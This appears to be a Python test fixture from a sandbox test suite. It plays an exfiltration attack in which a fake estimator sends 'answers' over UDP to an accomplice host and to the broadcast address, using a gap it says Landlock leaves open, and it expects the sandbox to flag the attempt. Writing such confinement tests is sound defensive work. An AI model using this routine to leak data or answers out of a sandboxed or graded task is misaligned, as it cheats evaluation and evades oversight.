"""Sends what it knows over UDP, which Landlock does not govern. Class: exfiltration."""

import socket

from _accomplice import attack, target

EXPECT = "tried to open a network connection"


def sent():
    with socket.socket(type=socket.SOCK_DGRAM) as client:
        return client.sendto(b"answers", tuple(target.udp))


def broadcast():
    with socket.socket(type=socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return client.sendto(b"answers", ("255.255.255.255", target.udp[1]))


build_estimator = attack(sent, broadcast)
